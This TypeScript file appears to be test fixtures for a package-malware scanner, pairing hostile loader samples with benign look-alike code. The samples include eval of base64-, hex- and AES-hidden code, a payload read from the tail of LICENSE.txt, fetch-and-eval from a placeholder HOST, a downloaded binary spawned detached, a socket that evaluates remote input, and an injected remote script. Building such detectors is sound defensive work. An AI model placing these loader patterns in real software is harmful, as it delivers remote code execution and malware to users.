/** What is run as code that was no code before: decoded text, and the network's answer. */
import { createCipheriv } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { Mechanism } from '../mechanism.ts';

const block = { load: 'block', install: 'block', bin: 'block', call: 'review' } as const;

/** An inert program: it prints one word. */
const payload = "console.log('far')";
const cipherKey = Buffer.alloc(32, 'far');
const cipher = createCipheriv('aes-256-cbc', cipherKey, Buffer.alloc(16));
const enciphered = cipher.update(payload, 'utf8', 'hex') + cipher.final('hex');
const deflated = deflateSync(payload).toString('base64');
const deflatedTable = deflateSync('a,b,c').toString('base64');
const base64 = Buffer.from(payload).toString('base64');
const hex = Buffer.from(payload).toString('hex');
const codes = [...payload].map((letter) => letter.charCodeAt(0) + 3).join(',');
const imageStart = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

export const evaluated: readonly Mechanism[] = [
  {
    id: 'base64-evaluated',
    rule: 'decoded-code-executed',
    demands: block,
    code: `eval(Buffer.from('${base64}', 'base64').toString('utf8'));`,
    twins: [
      {
        about: 'an image in base64',
        at: ['load', 'call'],
        code: `const icon = 'data:image/png;base64,${imageStart}';\nconst size = Buffer.from(icon.split(',')[1], 'base64').length;`,
      },
      {
        about: 'settings in base64, parsed',
        at: ['call'],
        parameters: 'header',
        code: `return JSON.parse(Buffer.from(header, 'base64').toString('utf8'));`,
      },
    ],
  },
  {
    id: 'hex-compiled',
    rule: 'decoded-code-executed',
    demands: block,
    code: `const vm = require('vm');\nconst text = Buffer.from('${hex}', 'hex').toString();\nvm.runInThisContext(text);`,
    twins: [
      {
        about: 'a template that is compiled when called',
        at: ['call'],
        parameters: 'template',
        code: `const body = 'return ' + JSON.stringify(template).replace(/<%=(.+?)%>/g, '" + $1 + "');\nreturn new Function('model', body);`,
      },
    ],
  },
  {
    id: 'codes-as-function',
    rule: 'decoded-code-executed',
    demands: block,
    code: `let text = '';\nfor (const code of [${codes}]) text += String.fromCharCode(code - 3);\nnew Function(text)();`,
    twins: [
      {
        about: 'the global object, by a function',
        at: ['load', 'call'],
        code: `const root = typeof globalThis === 'object' ? globalThis : new Function('return this')();\nconst hasTimers = 'setTimeout' in root;`,
      },
      {
        about: 'an alphabet from codes',
        at: ['load', 'call'],
        code: `let alphabet = '';\nfor (let code = 97; code < 123; code++) alphabet += String.fromCharCode(code);`,
      },
    ],
  },
  {
    id: 'inflated-and-compiled',
    rule: 'decoded-code-executed',
    demands: block,
    code: `const zlib = require('zlib');\nconst Module = require('module');\nconst made = new Module('far');\nmade._compile(zlib.inflateSync(Buffer.from('${deflated}', 'base64')).toString(), 'far.js');`,
    twins: [
      {
        about: 'a table that is unpacked',
        at: ['load', 'call'],
        code: `const zlib = require('zlib');\nconst table = zlib.inflateSync(Buffer.from('${deflatedTable}', 'base64')).toString().split(',');`,
      },
    ],
  },
  {
    id: 'deciphered-and-evaluated',
    rule: 'decoded-code-executed',
    demands: block,
    code: `const crypto = require('crypto');
const open = crypto.createDecipheriv('aes-256-cbc', Buffer.alloc(32, 'far'), Buffer.alloc(16));
const text = open.update('${enciphered}', 'hex', 'utf8') + open.final('utf8');
(0, eval)(text);`,
    twins: [
      {
        about: 'a text deciphered for the caller',
        at: ['call'],
        parameters: 'text, key',
        code: `const crypto = require('crypto');\nconst open = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16));\nreturn open.update(text, 'hex', 'utf8') + open.final('utf8');`,
      },
    ],
  },
  {
    id: 'file-decoded-and-required',
    rule: 'decoded-code-executed',
    demands: block,
    code: `const fs = require('fs');\nconst path = require('path');\nconst hidden = fs.readFileSync(path.join(__dirname, 'LICENSE.txt'), 'utf8').slice(-900);\nnew Function('require', Buffer.from(hidden, 'base64').toString())(require);`,
    twins: [
      {
        about: 'a JSON file of its own',
        at: ['call'],
        code: `const fs = require('fs');\nconst path = require('path');\nreturn JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8')).version;`,
      },
    ],
  },
  {
    id: 'module-by-decoded-name',
    rule: 'decoded-code-executed',
    demands: { load: 'block', install: 'block' },
    code: `const name = Buffer.from('6368696c645f70726f63657373', 'hex').toString();\nconst loaded = require(name);\nloaded.fork('far.js');`,
    twins: [
      {
        about: 'an optional module, tried',
        at: ['load', 'call'],
        code: `let native;\ntry { native = require('bufferutil'); } catch { native = undefined; }`,
      },
      {
        about: 'a plug-in by the name that the caller gives',
        at: ['call'],
        parameters: 'name',
        code: `return require(name);`,
      },
    ],
  },
  {
    id: 'fetched-and-evaluated',
    rule: 'remote-code-executed',
    demands: block,
    code: `fetch('https://HOST/run').then((answer) => answer.text()).then((text) => { eval(text); });`,
    twins: [
      {
        about: 'a version file, fetched when called',
        at: ['call'],
        code: `return fetch('https://HOST/latest.json').then((answer) => answer.json()).then((latest) => latest.version !== '1.0.0');`,
      },
    ],
  },
  {
    id: 'request-and-function',
    rule: 'remote-code-executed',
    demands: block,
    code: `const https = require('https');
https.get('https://HOST/next', (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => { new Function('require', text)(require); });
}).on('error', () => {});`,
    twins: [
      {
        about: 'a document, fetched and parsed when called',
        at: ['call'],
        parameters: 'url, done',
        code: `const https = require('https');
https.get(url, (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => { done(undefined, JSON.parse(text)); });
}).on('error', done);`,
      },
    ],
  },
  {
    id: 'saved-and-started',
    rule: 'remote-code-executed',
    demands: block,
    code: `const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const child = require('child_process');
const target = path.join(os.tmpdir(), 'helper');
https.get('https://HOST/helper', (answer) => {
  answer.pipe(fs.createWriteStream(target)).on('finish', () => {
    fs.chmodSync(target, 0o755);
    child.spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
  });
});`,
    twins: [
      {
        about: 'a file saved when called',
        at: ['call'],
        parameters: 'url, target',
        code: `const https = require('https');
const fs = require('fs');
https.get(url, (answer) => { answer.pipe(fs.createWriteStream(target)); });`,
      },
    ],
  },
  {
    id: 'saved-and-required',
    rule: 'remote-code-executed',
    demands: block,
    code: `const fs = require('fs');
const os = require('os');
const path = require('path');
fetch('https://HOST/part.js').then((answer) => answer.text()).then((text) => {
  const target = path.join(os.tmpdir(), 'part.js');
  fs.writeFileSync(target, text);
  require(target);
});`,
    twins: [
      {
        about: 'a settings file of the user, when called',
        at: ['call'],
        parameters: 'folder',
        code: `const path = require('path');\nreturn require(path.join(folder, 'sample.config.js'));`,
      },
    ],
  },
  {
    id: 'socket-evaluated',
    rule: 'remote-code-executed',
    demands: block,
    code: `const net = require('net');\nconst line = net.connect(443, 'HOST');\nline.on('data', (text) => { line.write(String(eval(text.toString()))); });`,
    twins: [
      {
        about: 'a socket that the caller asks for',
        at: ['call'],
        parameters: 'port, host',
        code: `const net = require('net');\nconst line = net.connect(port, host);\nline.on('error', () => line.destroy());\nreturn line;`,
      },
    ],
  },
  {
    id: 'script-element-added',
    rule: 'remote-code-executed',
    demands: { load: 'block', call: 'review' },
    code: `if (typeof document !== 'undefined') { const element = document.createElement('script'); element.src = 'https://HOST/drain.js'; document.head.appendChild(element); }`,
    twins: [
      {
        about: 'a style element',
        at: ['call'],
        parameters: 'css',
        code: `const element = document.createElement('style');\nelement.appendChild(document.createTextNode(css));\ndocument.head.appendChild(element);`,
      },
    ],
  },
  {
    id: 'harmless-but-obfuscated',
    rule: 'obfuscation-added',
    demands: { load: 'review' },
    encodings: ['obfuscator-strings', 'obfuscator-flattened'],
    code: `const words = ['alpha', 'beta', 'gamma', 'delta', 'epsilon'];\nconst lengths = words.map((word) => word.length).filter((length) => length > 4);\nconst total = lengths.reduce((sum, length) => sum + length, 0);\nif (String(total).includes('far')) words.push('omega');`,
    twins: [
      {
        about: 'tables and sums',
        at: ['load', 'call'],
        code: `const words = ['alpha', 'beta', 'gamma', 'delta', 'epsilon'];\nconst lengths = new Map(words.map((word) => [word, word.length]));\nconst total = [...lengths.values()].reduce((sum, length) => sum + length, 0);`,
      },
      {
        about: 'a checksum with numbers in hexadecimal',
        at: ['load', 'call'],
        code: `const table = new Int32Array(256);\nfor (let at = 0; at < 256; at++) { let sum = at; for (let bit = 0; bit < 8; bit++) sum = sum & 1 ? 0xedb88320 ^ (sum >>> 1) : sum >>> 1; table[at] = sum; }`,
      },
    ],
  },
  {
    id: 'webassembly-from-bytes',
    rule: 'decoded-code-executed',
    demands: { load: 'review', install: 'block' },
    code: `const bytes = Buffer.from('AGFzbQEAAAA=', 'base64');\nWebAssembly.instantiate(bytes, { far: { run() {} } });`,
    twins: [
      {
        about: 'a test for WebAssembly',
        at: ['load', 'call'],
        code: `const hasWasm = typeof WebAssembly === 'object' && typeof WebAssembly.instantiate === 'function';`,
      },
    ],
  },
];
